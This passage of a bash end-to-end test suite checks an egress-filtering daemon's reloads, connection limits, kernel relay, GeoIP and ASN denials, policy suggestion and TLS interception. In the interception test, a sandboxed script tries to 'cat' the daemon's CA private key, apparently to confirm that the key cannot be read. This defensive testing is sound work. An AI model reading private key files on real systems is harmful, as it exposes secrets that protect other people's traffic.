	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	: >"$run/go0"
	bed_wait_file "$run/ready1" 10 || fail "the agent did not get to step 1: $(oneline "$(cat "$res")")"
	a2e_config enforce
	out=$("$ctl" reload --socket "$dsock" 2>&1); rc=$?
	[ $rc = 0 ] || fail "reload to enforce: rc $rc: $(oneline "$out")"
	: >"$run/go1"
	wait_agent "$apid" "$res"
	grep -q "^audit direct: sent\$" <<<"$out" && grep -q "^audit pre: sent\$" <<<"$out" ||
		fail "audit mode did not let the datagrams go: $(oneline "$out")"
	grep -q "^enforce direct: refused 1\$" <<<"$out" && grep -q "^enforce pre: refused 1\$" <<<"$out" ||
		fail "after the reload to enforce a socket still sent: $(oneline "$out")"
	sleep 0.3
	local port verdict n
	for port in 9998:audit:1 9998:deny:1 9999:deny:1 9999:audit:0; do
		IFS=: read -r port verdict n <<<"$port"
		[ "$(grep -Ec '"dst_port": *'"$port"',.*"verdict": *"'"$verdict"'", *"reason": *"not_redirected"' "$CASE_AUDIT")" = "$n" ] ||
			fail "want $n not_redirected $verdict record(s) for port $port: $(oneline "$(grep not_redirected "$CASE_AUDIT")")"
	done
}

# A reload applies the proxy's timeouts and connection limits to a running
# daemon. Opened under idle_timeout_ms 600000 and peek_timeout_ms 60000, a
# relayed connection with no bytes either way and a client that sent half
# an HTTP head stay open for 1.5 s; a reload to 1000 and 500 closes both
# within seconds (the hash server would wait 30 s). The same reload sets
# max_conns_per_cgroup 1: a second connection of the cgroup is refused
# (conn_limit, by the kernel's count of the cgroup's open sockets: EPERM
# at connect) while the first is held, and after a reload back to 100 a
# second one stays open and the first still answers. The replies name
# nothing that waits for a restart, and egressctl status (JSON and text)
# shows the values in force after each reload.
drl_config() { # IDLE_MS PEEK_MS MAX_PER_CGROUP
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$DSOCK", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "proxy": { "idle_timeout_ms": $1, "peek_timeout_ms": $2,
             "max_conns_per_cgroup": $3 },
  "policies": { "rl": { "mode": "enforce", "allow": ["allowed.test", "$ALLOWED4:9100"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "rl" } ] }
JSON
}

case_daemon_reload_timeouts_limits() {
	need_egressd
	local out rc i apid step
	local ctl=$E2E_REPO/egressctl run=$E2E_DIR/run/drl res=$E2E_DIR/run/drl.out
	DSOCK=$E2E_DIR/ctl/drl.sock
	daemon_bed drl bpffs-drl daemon-drl agents/job1
	mkdir -p "$run" && chmod 777 "$run"
	drl_config 600000 60000 100
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	# shellcheck disable=SC2016
	local agent='
import hashlib, os, select, socket, sys, time
run = sys.argv[1]
def wait_file(name):
    for _ in range(600):
        if os.path.exists(os.path.join(run, name)):
            return
        time.sleep(0.02)
    sys.exit("never told " + name)
def closed(s, timeout):
    """seconds until s is closed by the other end, None if still open"""
    t0 = time.monotonic()
    s.setblocking(False)
    while True:
        left = max(timeout - (time.monotonic() - t0), 0)
        if not select.select([s], [], [], left)[0]:
            return None
        try:
            if not s.recv(4096):
                return time.monotonic() - t0
        except BlockingIOError:
            continue
        except ConnectionResetError:
            return time.monotonic() - t0
def closed_all(socks, timeout):
    """seconds until each of socks is closed by the other end, or None"""
    t0, left, got = time.monotonic(), dict(enumerate(socks)), [None] * len(socks)
    for s in socks:
        s.setblocking(False)
    while left and time.monotonic() - t0 < timeout:
        for i in list(left):
            if closed(left[i], 0) is not None:
                got[i] = time.monotonic() - t0
                del left[i]
        if left:
            select.select(list(left.values()), [], [], 0.05)
    return got
def raw():
    s = socket.create_connection(("'$ALLOWED4'", 9100), 5)
    return s
a = raw()
a.sendall(b"0\n")
b = socket.create_connection(("allowed.test", 80), 5)
b.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n")
print("before reload: idle open" if closed(a, 1.5) is None else "before reload: idle closed")
print("before reload: peek open" if closed(b, 0.1) is None else "before reload: peek closed")
open(os.path.join(run, "ready1"), "w").write("1")
wait_file("go1")
ta, tb = closed_all([a, b], 8)
print("idle closed after %s s" % (None if ta is None else round(ta, 2)))
print("peek closed after %s s" % (None if tb is None else round(tb, 2)))
a.close()  # open sockets count against the cgroup until closed
b.close()
open(os.path.join(run, "ready2"), "w").write("1")
wait_file("go2")
d = raw()
d.sendall(b"5\n")
time.sleep(0.3)
try:
    e = raw()
    e.sendall(b"0\n")
    te = closed(e, 5)
except PermissionError:
    te = 0  # the kernel refused the connect() (conn_limit)
print("second conn refused" if te is not None else "second conn open")
open(os.path.join(run, "ready3"), "w").write("1")
wait_file("go3")
f = raw()
f.sendall(b"0\n")
print("after raising: second conn open" if closed(f, 1.0) is None else "after raising: second conn closed")
d.setblocking(True)
d.settimeout(5)
d.sendall(b"hello")
d.shutdown(socket.SHUT_WR)
got = b""
while True:
    c = d.recv(4096)
    if not c:
        break
    got += c
line = got.split(b"\n", 1)[0].decode()
want = "%s 5" % hashlib.sha256(b"hello").hexdigest()
print("first conn answered" if line == want and len(got) == len(line) + 1 + 5 else "first conn: %r" % got[:100])
'
	in_cg "$DCG/agents/job1" "$E2E_PY" -c "$agent" "$run" >"$res" 2>&1 &
	apid=$!
	# each step: the agent says readyN, a reload, then goN
	for step in "1 1000 500 100" "2 600000 60000 1" "3 600000 60000 100"; do
		set -- $step
		bed_wait_file "$run/ready$1" 30 ||
			fail "the agent did not get to step $1: $(tail -c 700 "$res" | tr "\n" " ")"
		drl_config "$2" "$3" "$4"
		out=$("$ctl" reload --socket "$DSOCK" 2>&1); rc=$?
		[ $rc = 0 ] && [ "$out" = "egressctl: reloaded" ] ||
			fail "reload to idle $2, peek $3, max $4: rc $rc: $(oneline "$out")"
		# status shows the values in force
		out=$("$ctl" status --json --socket "$DSOCK" | python3 -c 'import json, sys
p = json.load(sys.stdin)["proxy"]
print(p["idle_timeout_ms"], p["peek_timeout_ms"], p["max_conns_per_cgroup"], p["max_conns"])') ||
			fail "egressctl status --json has no proxy settings"
		[ "$out" = "$2 $3 $4 65536" ] || fail "status after reload $1: $out, want $2 $3 $4 65536"
		echo 1 >"$run/go$1"
	done
	out=$("$ctl" status --socket "$DSOCK") || fail "egressctl status failed"
	grep -Eq "^  proxy +[0-9]+ workers; timeouts \(ms\): peek 60000, connect 10000, resolve 5000, idle 600000\$" <<<"$out" &&
		grep -Eq "^  limits +100 connections per cgroup, 65536 in all; kernel relay off\$" <<<"$out" ||
		fail "egressctl status: $(grep -E '^  (proxy|limits) ' <<<"$out" | tr '\n' ' ')"
	wait_agent "$apid" "$res"
	grep -q "^before reload: idle open\$" <<<"$out" && grep -q "^before reload: peek open\$" <<<"$out" ||
		fail "closed before the reload: $(oneline "$out")"
	"$E2E_PY" -c 'import re, sys
t = {k: float(v) for k, v in re.findall(r"^(idle|peek) closed after ([0-9.]+) s$", sys.argv[1], re.M)}
assert set(t) == {"idle", "peek"} and max(t.values()) < 4, t' "$out" ||
		fail "the reload did not close the waiting connections in time: $(oneline "$out")"
	grep -q "^second conn refused\$" <<<"$out" ||
		fail "max_conns_per_cgroup 1 did not refuse a second connection: $(oneline "$out")"
	grep -q "^after raising: second conn open\$" <<<"$out" &&
		grep -q "^first conn answered\$" <<<"$out" ||
		fail "after the reload back to 100: $(oneline "$out")"
	for ((i = 0; i < 30; i++)); do
		grep -q '"detail": *"idle for 1000 ms"' "$CASE_AUDIT" && break
		sleep 0.1
	done
	out=$("$E2E_PY" -c 'import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
limit = [r for r in recs if r.get("reason") == "conn_limit" and r["verdict"] == "deny"
         and r.get("origin") == "kernel"]
recs = [r for r in recs if r.get("origin") == "proxy"]
idle = [r for r in recs if r.get("detail") == "idle for 1000 ms" and r["verdict"] == "allow"]
peek = [r for r in recs if r.get("reason") == "peek_timeout" and " in 500 ms" in r.get("detail", "")]
assert len(idle) == 1 and len(peek) == 1 and len(limit) == 1, recs
print("idle:", idle[0]["detail"], "| peek:", peek[0]["detail"], "| limit:", limit[0]["reason"])' "$CASE_AUDIT" 2>&1) ||
		fail "audit records: $(oneline "$out")"
	note "audit: $out"
}

# The daemon with proxy.kernel_relay_after (the path case_kernel_relay, an
# `egressd run`, does not take): paced downloads (4 MiB over 6 s, TLS and
# plain HTTP at once) move to the kernel relay after 1 MiB while egressctl
# watches: conns (--json and the table) lists both in state kernel with
# their bytes still growing; both arrive byte for byte; each audit record
# says relay kernel with every byte counted (exactly, for plain HTTP, from
# curl's own counts). A bad value is a FILE:LINE: field error (reload and
# --check); restarted without the key, the same download stays in the
# proxy's relay state and its record has no relay field.
dkr_config() { # PROXY-MEMBERS: the daemon config, members on line 4
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$DSOCK", "metrics": null },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "proxy": {
    $1 },
  "policies": { "kr": { "mode": "enforce", "allow": ["allowed.test"] } },
  "bindings": [ { "cgroup": "$DCG/agents/job*", "policy": "kr" } ] }
JSON
}
# dkr_conns: "NAMEKIND STATE BYTES_UP BYTES_DOWN" per live connection to
# allowed.test (sni: TLS, host: plain HTTP), from egressctl conns --json.
dkr_conns() {
	"$E2E_REPO/egressctl" conns --json --socket "$DSOCK" | python3 -c 'import json, sys
for c in json.load(sys.stdin)["conns"]:
    for k in ("sni", "host"):
        if c.get(k) == "allowed.test":
            print(k, c["state"], c["bytes_up"], c["bytes_down"])'
}
# dkr_download OUT PROTO URL: curl in job1, its body hashed; OUT gets
# "PROTO HTTP-CODE HEADER-BYTES BODY-BYTES REQUEST-BYTES" and the sha256.
dkr_download() {
	in_cg "$DCG/agents/job1" sh -c 'curl -sS --max-time 30 --cacert "$1" \
		-w "%{stderr}$2 %{http_code} %{size_header} %{size_download} %{size_request}\n" \
		"$3" | sha256sum' sh "$E2E_CA" "$2" "$3" >"$1" &
}

case_daemon_kernel_relay() {
	need_egressd
	local out rc i snap snap2 want want2 tpid hpid seen
	local ctl=$E2E_REPO/egressctl tls=$E2E_DIR/dkr-tls.out http=$E2E_DIR/dkr-http.out
	DSOCK=$E2E_DIR/ctl/krelay.sock
	daemon_bed krelay bpffs-krelay daemon-krelay agents/job1
	want=$("$E2E_PY" -c 'import sys; sys.path.insert(0, sys.argv[1]); import server
for n in sys.argv[2:]: print(server.slow_sha256(int(n)))' "$E2E_DIR/bin" 4194304 2097152) ||
		fail "cannot compute the pattern's sha256"
	read -r want want2 <<<"$(tr '\n' ' ' <<<"$want")"
	dkr_config '"kernel_relay_after": 1048576'
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"

	dkr_download "$tls" tls "https://allowed.test/slow?ms=6000&size=4194304"
	tpid=$!
	bed_track $tpid
	dkr_download "$http" http "http://allowed.test/slow?ms=6000&size=4194304"
	hpid=$!
	bed_track $hpid
	# the hand-over comes after 1 MiB, ~1.5 s in (later on a loaded machine)
	for ((i = 0; i < 100; i++)); do
		snap=$(dkr_conns) || fail "egressctl conns --json failed"
		grep -q '^sni kernel ' <<<"$snap" && break
		kill -0 $tpid 2>/dev/null || kill -0 $hpid 2>/dev/null || break
		sleep 0.1
	done
	note "conns: $(oneline "$snap")"
	# plain HTTP stays in the proxy (its requests are checked one by one)
	grep -q '^sni kernel ' <<<"$snap" && grep -q '^host relay ' <<<"$snap" ||
		fail "egressctl conns --json: want the TLS download in state kernel, the HTTP one in relay: $(oneline "$snap"); tls: $(oneline "$(cat "$tls")"); http: $(oneline "$(cat "$http")")"
	out=$("$ctl" conns --socket "$DSOCK") || fail "egressctl conns failed"
	[ "$(grep -Ec "^[0-9.smhd]+ +[0-9]+ +curl +$DCG/agents/job1 +[^ ]+:443 +allowed.test +kernel +allow +kr " <<<"$out")" = 1 ] ||
		fail "egressctl conns table: $(oneline "$out")"
	# the listing adds what the kernel moved: still kernel, still growing
	sleep 0.3
	snap2=$(dkr_conns) || fail "egressctl conns --json failed"
	note "conns later: $(oneline "$snap2")"
	"$E2E_PY" -c 'import sys
a, b = ({l.split()[0]: l.split() for l in s.splitlines()} for s in sys.argv[1:3])
# the TLS one was handed over after 1 MiB; the HTTP one, started at the
# same time, may not be that far yet
for k, st, least in (("sni", "kernel", 1 << 20), ("host", "relay", 1)):
    assert b[k][1] == st and int(b[k][3]) > int(a[k][3]) >= least, (k, a[k], b[k])' \
		"$snap" "$snap2" || fail "bytes_down did not grow in state kernel: $(oneline "$snap") then $(oneline "$snap2")"
	kill -0 $tpid 2>/dev/null && kill -0 $hpid 2>/dev/null ||
		fail "a download ended before the checks (not observed mid-flight)"
	wait $tpid || fail "TLS download: exit $?: $(oneline "$(cat "$tls")")"
	wait $hpid || fail "HTTP download: exit $?: $(oneline "$(cat "$http")")"
	grep -q "^tls 200 [0-9]* 4194304 " "$tls" && grep -q "^$want " "$tls" ||
		fail "TLS download: $(oneline "$(cat "$tls")"), want 4194304 bytes of sha256 $want"
	grep -q "^http 200 [0-9]* 4194304 " "$http" && grep -q "^$want " "$http" ||
		fail "HTTP download: $(oneline "$(cat "$http")"), want 4194304 bytes of sha256 $want"
	# records land when the connections close
	for ((i = 0; i < 30; i++)); do
		[ "$(grep -c '"origin": *"proxy"' "$CASE_AUDIT")" -ge 2 ] && break
		sleep 0.1
	done
	out=$("$E2E_PY" -c 'import json, sys
hdr, body, req = next(l for l in open(sys.argv[2]) if l.startswith("http ")).split()[2:5]
recs = [r for r in map(json.loads, open(sys.argv[1])) if r.get("origin") == "proxy"]
tls = [r for r in recs if r.get("sni") == "allowed.test"]
http = [r for r in recs if r.get("host") == "allowed.test"]
assert len(tls) == 1 and len(http) == 1, recs
t, h = tls[0], http[0]
for r in (t, h):
    assert r["verdict"] == "allow" and r["policy"] == "kr" and r["comm"] == "curl", r
assert t.get("relay") == "kernel" and "relay" not in h, (t, h)
assert t["bytes_down"] > 4194304 and t["bytes_up"] > 0, t
assert h["bytes_down"] == int(hdr) + int(body) and h["bytes_up"] == int(req), (h, hdr, body, req)
print("tls up %d down %d, http up %d down %d" % (t["bytes_up"], t["bytes_down"],
      h["bytes_up"], h["bytes_down"]))' "$CASE_AUDIT" "$http" 2>&1) ||
		fail "audit records: $(oneline "$out")"
	note "audit: $out"

	# bad values: FILE:LINE: field, the running config stays
	cp "$DCFG" "$DCFG.good"
	dkr_config '"kernel_relay_after": "1M"'
	out=$("$ctl" reload --socket "$DSOCK" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "^egressctl: $DCFG:4: proxy.kernel_relay_after: expected an integer, got a string\$" <<<"$out" ||
		fail "reload with kernel_relay_after \"1M\": rc $rc: $(oneline "$out")"
	dkr_config '"kernel_relay_after": -1'
	out=$(ip netns exec "$NS_HOST" "$EGRESSD" daemon --check --config "$DCFG" 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "^egressd: $DCFG:4: proxy.kernel_relay_after: -1 is out of range (0-1073741824)\$" <<<"$out" ||
		fail "--check with kernel_relay_after -1: rc $rc: $(oneline "$out")"

	# a valid reload that changes a setting made at start applies, and
	# says which setting waits for a restart
	dkr_config ''
	out=$("$ctl" reload --socket "$DSOCK" 2>&1); rc=$?
	[ $rc = 0 ] && grep -q "^egressctl: reloaded\$" <<<"$out" &&
		grep -q "^egressctl: changed proxy.kernel_relay_after: these take effect when egressd restarts; the running values stay until then\$" <<<"$out" ||
		fail "reload without kernel_relay_after: rc $rc: $(oneline "$out")"
	grep -q "reload: changed proxy.kernel_relay_after: these take effect when egressd restarts" "$CASE_STDERR" ||
		fail "the daemon did not log the setting that waits for a restart"
	out=$("$ctl" reload --socket "$DSOCK" 2>&1); rc=$?
	[ $rc = 0 ] && grep -q "^egressctl: changed proxy.kernel_relay_after" <<<"$out" ||
		fail "a second reload forgot what the running value is: rc $rc: $(oneline "$out")"

	# restarted without the key: the same kind of download stays in the
	# proxy's relay, past the bytes that moved the first one
	bed_stop_pid "$DPID"
	kill -0 "$DPID" 2>/dev/null && fail "the daemon did not stop"
	dkr_config ''
	daemon_start || fail "daemon did not restart: $(tail -3 "$CASE_STDERR")"
	: >"$CASE_AUDIT"
	dkr_download "$http" http "http://allowed.test/slow?ms=3000&size=2097152"
	hpid=$!
	bed_track $hpid
	seen=
	for ((i = 0; i < 100; i++)); do
		snap=$(dkr_conns) || fail "egressctl conns --json failed"
		seen+="$snap"$'\n'
		kill -0 $hpid 2>/dev/null || break
		sleep 0.1
	done
	note "without the key: $(awk 'NF { print $2 }' <<<"$seen" | sort | uniq -c | tr '\n' ' ')"
	grep -q '^host kernel ' <<<"$seen" && fail "state kernel without kernel_relay_after: $(grep -m1 '^host kernel ' <<<"$seen")"
	awk '$1 == "host" && $2 == "relay" && $4 > 1048576 { f = 1 } END { exit !f }' <<<"$seen" ||
		fail "never seen in state relay past 1 MiB: $(oneline "$seen")"
	wait $hpid || fail "HTTP download without the key: exit $?: $(oneline "$(cat "$http")")"
	grep -q "^http 200 [0-9]* 2097152 " "$http" && grep -q "^$want2 " "$http" ||
		fail "HTTP download without the key: $(oneline "$(cat "$http")"), want 2097152 bytes of sha256 $want2"
	for ((i = 0; i < 30; i++)); do
		grep -q '"origin": *"proxy"' "$CASE_AUDIT" && break
		sleep 0.1
	done
	out=$("$E2E_PY" -c 'import json, sys
hdr, body, req = next(l for l in open(sys.argv[2]) if l.startswith("http ")).split()[2:5]
h = [r for r in map(json.loads, open(sys.argv[1]))
     if r.get("origin") == "proxy" and r.get("host") == "allowed.test"]
assert len(h) == 1, h
h = h[0]
assert "relay" not in h and h["verdict"] == "allow", h
assert h["bytes_down"] == int(hdr) + int(body) and h["bytes_up"] == int(req), (h, hdr, body, req)' \
		"$CASE_AUDIT" "$http" 2>&1) || fail "audit record without the key: $(oneline "$out")"
}

# ---------------------------------------------------------------------
# GeoIP (docs/geoip.md). tests/data/geo/e2e-{country,asn}.mmdb map the
# bed's hosts: allowed.test DE AS64496, api.allowed.test DE AS64497,
# other.test US AS64498, evil.test KP AS64499 (v4 and v6).

GEO_DATA=$E2E_REPO/tests/data/geo

case_geoip_country_and_asn() {
	need_egressd
	local out rc pol=$E2E_DIR/geo-policy.json
	local geo=(--geoip-country "$GEO_DATA/e2e-country.mmdb" --geoip-asn "$GEO_DATA/e2e-asn.mmdb")
	cat >"$pol" <<JSON
{ "name": "geo", "deny_countries": ["kp"],
  "allow": [ "allowed.test", "evil.test",
             { "rule": "*.allowed.test", "asn": [64497] },
             { "rule": "other.test", "asn": [64496] } ] }
JSON
	# DE passes; the record carries the upstream's country and ASN.
	out=$(egr -p "$pol" "${geo[@]}" -- curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://allowed.test/) || fail "allowed.test: $(oneline "$out")"
	grep -q 'hello from allowed.test' <<<"$out" || fail "allowed.test answered: $(oneline "$out")"
	out=$(audit_find "o.get('sni') == 'allowed.test' and o.get('verdict') == 'allow'") ||
		fail "no allow record for allowed.test"
	note "allowed.test: $out"
	audit_find "o.get('sni') == 'allowed.test' and o.get('country') == 'DE' and o.get('asn') == 64496 and o.get('as_org') == 'Bed Allowed DE'" >/dev/null ||
		fail "allowed.test record lacks country/asn/as_org: $out"
	# Intercepted, each request's record carries them too.
	out=$(egr_ic -p "$pol" "${geo[@]}" --intercept allowed.test -- \
		curl -sS --max-time 5 https://allowed.test/echo) ||
		fail "intercepted allowed.test: $(oneline "$out")"
	audit_find "o.get('origin') == 'intercept' and o.get('http', {}).get('path') == '/echo' and o.get('country') == 'DE' and o.get('asn') == 64496" >/dev/null ||
		fail "intercepted request record lacks country/asn: $(grep '"intercept"' "$CASE_AUDIT" | tail -1)"
	# evil.test is allowed by name, but it is in KP: no contact at all.
	log_mark evil.test
	out=$(egr -p "$pol" "${geo[@]}" -- "${TIMED[@]}" curl -sS --max-time 5 \
		--cacert "$E2E_CA" https://evil.test/)
	rc=$?
	deny_fast "evil.test (KP)" $rc "$out"
	evil_untouched "deny_countries"
	out=$(audit_find "o.get('sni') == 'evil.test' and o.get('verdict') == 'deny'") ||
		fail "no deny record for evil.test"
	note "evil.test: $out"
	audit_find "o.get('sni') == 'evil.test' and o.get('verdict') == 'deny' and o.get('reason') == 'geo' and o.get('country') == 'KP'" >/dev/null ||
		fail "evil.test denial is not reason geo with country KP: $out"
	# ASN lists: api.allowed.test (AS64497) is listed; other.test (AS64498)
	# is not in its rule's [64496].
	out=$(egr -p "$pol" "${geo[@]}" -- curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://api.allowed.test/) || fail "api.allowed.test (listed ASN): $(oneline "$out")"
	log_mark other.test
	out=$(egr -p "$pol" "${geo[@]}" -- "${TIMED[@]}" curl -sS --max-time 5 \
		--cacert "$E2E_CA" https://other.test/)
	rc=$?
	timed_split "$out"
	[ $rc -ne 0 ] || fail "other.test (AS64498, unlisted) succeeded: $(oneline "$BODY")"
	sleep 0.2
	[ -z "$(log_new other.test)" ] ||
		fail "other.test was contacted: $(oneline "$(log_new other.test)")"
	out=$(audit_find "o.get('sni') == 'other.test' and o.get('reason') == 'geo' and o.get('asn') == 64498") ||
		fail "no geo denial with asn 64498 for other.test"
	note "other.test: $out"
	# Without the databases the policy is refused; a corrupt database is
	# refused with its file named; nothing runs either way (exit 2).
	out=$(ip netns exec "$NS_HOST" "$EGRESSD" run --user nobody -p "$pol" \
		--geoip-asn "$GEO_DATA/e2e-asn.mmdb" -- echo RAN 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "deny_countries: needs a country database" <<<"$out" &&
		! grep -q RAN <<<"$out" || fail "policy without a country database: rc $rc: $(oneline "$out")"
	out=$(ip netns exec "$NS_HOST" "$EGRESSD" run --user nobody -p "$pol" \
		--geoip-country "$GEO_DATA/corrupt-data.mmdb" --geoip-asn "$GEO_DATA/e2e-asn.mmdb" \
		-- echo RAN 2>&1); rc=$?
	[ $rc = 2 ] && grep -q "country database $GEO_DATA/corrupt-data.mmdb: corrupt" <<<"$out" &&
		! grep -q RAN <<<"$out" || fail "corrupt database: rc $rc: $(oneline "$out")"
	note "corrupt: $(oneline "$out")"
}

# Audit mode + policy suggest (issue 5): a scripted run under a policy in
# audit mode, the suggested policy enforced by a reload, the same run again:
# everything it did still works, a host it never touched is denied.
suggest_script() { # CGROUP: the scripted run, every step must succeed
	local u
	for u in https://allowed.test/ https://api.allowed.test/ \
		http://www.allowed.test/ https://other.test/; do
		in_cg "$1" curl -sS --max-time 5 --cacert "$E2E_CA" "$u" >/dev/null ||
			{ echo "$u failed"; return 1; }
	done
}

case_audit_suggest_enforce() {
	need_egressd
	local out rc
	local ctl=$E2E_REPO/egressctl dsock=$E2E_DIR/ctl/control.sock
	local sug=$E2E_DIR/suggested.json
	daemon_bed suggest bpffs daemon-suggest agents/job1
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "learn": { "mode": "audit", "allow": [] } },
  "bindings": [ { "cgroup": "$DCG/agents/*", "policy": "learn" } ] }
JSON
	daemon_start || fail "daemon did not start: $(tail -3 "$CASE_STDERR")"
	out=$(suggest_script "$DCG/agents/job1") || fail "audit mode run: $(oneline "$out")"
	sleep 0.5 # records land when connections close
	out=$("$ctl" policy suggest --log "$CASE_AUDIT" --since 1h --cgroup "$DCG/agents/*" \
		--name learned 2>"$E2E_DIR/suggest.err" >"$sug") ||
		fail "policy suggest: $(oneline "$(cat "$E2E_DIR/suggest.err")")"
	note "suggested: $(oneline "$(cat "$sug")")"
	note "suggest: $(oneline "$(cat "$E2E_DIR/suggest.err")")"
	"$E2E_PY" -c 'import json, sys
p = json.load(open(sys.argv[1]))
want = ["*.allowed.test", "allowed.test", "other.test"]
assert p["mode"] == "enforce" and sorted(p["allow"]) == want, p' "$sug" ||
		fail "suggested policy is not exactly $(oneline "allowed.test *.allowed.test other.test"): $(oneline "$(cat "$sug")")"
	# Enforce it: the binding's policy becomes the suggested file.
	cat >"$DCFG" <<JSON
{ "listen": { "control": "$dsock" },
  "audit": { "path": "$CASE_AUDIT", "format": "json" },
  "policies": { "learn": { "file": "$sug" } },
  "bindings": [ { "cgroup": "$DCG/agents/*", "policy": "learn" } ] }
JSON
	out=$("$ctl" reload --socket "$dsock" 2>&1) || fail "reload: $(oneline "$out")"
	out=$("$ctl" status --socket "$dsock" 2>&1)
	grep -Eq "^  learn +enforce " <<<"$out" || fail "policy not enforced after reload: $(oneline "$out")"
	out=$(suggest_script "$DCG/agents/job1") || fail "enforced rerun: $(oneline "$out")"
	# evil.test, never touched: its name does not resolve, and a
	# connection to its address naming it is denied.
	log_mark evil.test
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		https://evil.test/) && fail "evil.test (never touched) was allowed"
	note "evil.test: $(oneline "$out")"
	out=$(in_cg "$DCG/agents/job1" curl -sS --max-time 5 --cacert "$E2E_CA" \
		--resolve "evil.test:443:$EVIL4" https://evil.test/) &&
		fail "evil.test by address (never touched) was allowed"
	note "evil.test by address: $(oneline "$out")"
	evil_untouched "suggested policy"
	sleep 0.3
	audit_find "o.get('sni') == 'evil.test' and o.get('verdict') == 'deny' and o.get('reason') == 'no_match' and o.get('policy') == 'learn'" >/dev/null ||
		fail "no enforced denial of evil.test in the audit log"
}

case_nothing_left_behind() {
	local pids i now ns left=
	for ((i = 0; i < 30; i++)); do
		pids=$(ip netns pids "$NS_HOST" 2>/dev/null | paste -sd,)
		[ -z "$pids" ] && break
		sleep 0.1
	done
	if [ -n "$pids" ]; then
		# shellcheck disable=SC2086
		left+="processes in the host netns: $(ps -o pid=,stat=,user=,args= \
			-p "$pids" 2>/dev/null | cut -c1-120 | tr '\n' ';' | tr -s ' ') "
	fi
	now=$(cg_list_egressd)
	now=$(comm -13 "$E2E_SNAP/cgroups" <(echo "$now") | grep .)
	[ -z "$now" ] || left+="cgroups: $(echo "$now" | tr '\n' ' '); "
	# A run leaves its programs on its removed cgroup while a socket of it
	# lives (an orphan closing, FIN_WAIT2 for up to tcp_fin_timeout):
	# they go with the last one.
	for ((i = 0; i < 70; i++)); do
		now=$(bpf_list_egr)
		now=$(comm -13 "$E2E_SNAP/progs" <(echo "$now") | grep .)
		[ -z "$now" ] && break
		sleep 1
	done
	[ "$i" -gt 0 ] && note "the last programs went after ${i} s"
	[ -z "$now" ] || left+="BPF programs: $(echo "$now" | tr '\n' ' '); "
	E2E_KEEP=1 bed_teardown 2>/dev/null
	for ns in "$NS_HOST" "$NS_NET"; do
		ip netns list | grep -qw "^$ns" && left+="netns $ns; "
	done
	[ -e "/etc/netns/$NS_HOST" ] && left+="/etc/netns/$NS_HOST; "
	while read -r i; do
		[ -n "$i" ] && kill -0 "$i" 2>/dev/null && left+="pid $i; "
	done <"$E2E_SNAP/pids"
	[ -z "$left" ] || fail "left behind: $left"
}

# ---------------------------------------------------------------------
# TLS interception (docs/interception.md). The agent gets only the
# environment egressd sets (egr_ic): the CA bundle variables must be enough
# for curl, Node, Python and git, with no --cacert.

IC_ENV=()
# Print the issuer of the certificate NAME:443 presents to the agent.
IC_ISSUER='openssl s_client -connect "$1:443" -servername "$1" </dev/null 2>/dev/null |
	openssl x509 -noout -issuer 2>&1'
# Status line, then the body, of one raw request over TLS (SSL_CERT_FILE
# trusts egressd's CA), for requests curl will not send.
IC_RAW='import socket, ssl, sys
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=8),
                    server_hostname=sys.argv[1])
s.sendall(sys.argv[2].encode().decode("unicode_escape").encode("latin-1"))
data = b""
try:
    while len(data) < 65536:
        b = s.recv(4096)
        if not b:
            break
        data += b
except (socket.timeout, ssl.SSLError, ConnectionError) as e:
    data += ("\n[%r]" % e).encode()
print(data.decode("latin-1"))'

# ic_requests NAME: request events in NAME's server log since log_mark.
ic_requests() { log_new "$1" | grep '"event": "request"'; }

case_intercept_curl_node_python_git() {
	need_egressd
	local out want line
	# The bed's repository works outside, with the bed's CA: proves the
	# server side; inside, only egressd's bundle may be used.
	if command -v git >/dev/null; then
		want=$(git --git-dir="$E2E_DIR/www/repo.git" rev-parse main)
		out=$(outside env GIT_SSL_CAINFO="$E2E_CA" git ls-remote \
			https://allowed.test/repo.git 2>&1) ||
			fail "outside git ls-remote: $(oneline "$out")"
	fi
	log_mark allowed.test
	out=$(egr_ic --allow allowed.test --intercept allowed.test -- sh -c '
		echo "issuer: $(sh -c "$1" sh allowed.test)"
		echo "curl: $(curl -sS --max-time 10 https://allowed.test/ 2>&1)"
		echo "node: $(node -e "$2" https://allowed.test/ 2>&1)"
		echo "python: $(python3 -c "import urllib.request as u, sys
print(u.urlopen(sys.argv[1], timeout=10).read().decode(), end=\"\")" https://allowed.test/ 2>&1)"
		echo "git: $(git ls-remote https://allowed.test/repo.git 2>&1 | tr "\t\n" "  ")"
		echo "bundle: $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $GIT_SSL_CAINFO"
		d=$(dirname "$SSL_CERT_FILE")
		echo "key: $(cat "$d/ca/ca.key" 2>&1 | head -c 200)"
		echo "list: $(ls "$d" 2>&1 | head -c 200)"
		' sh "$IC_ISSUER" "$NODE_FETCH")
	note "$out"
	grep -q '^issuer: .*egressd local CA' <<<"$out" ||
		fail "the agent did not get egressd's certificate: $(grep '^issuer' <<<"$out")"
	for line in "curl: hello from allowed.test" "python: hello from allowed.test"; do
		grep -qxF "$line" <<<"$out" || fail "expected '$line': $(oneline "$out")"
	done
	if command -v node >/dev/null; then
		grep -qxF "node: hello from allowed.test" <<<"$out" ||
			fail "node fetch: $(grep '^node' <<<"$out")"
	fi
	if command -v git >/dev/null; then
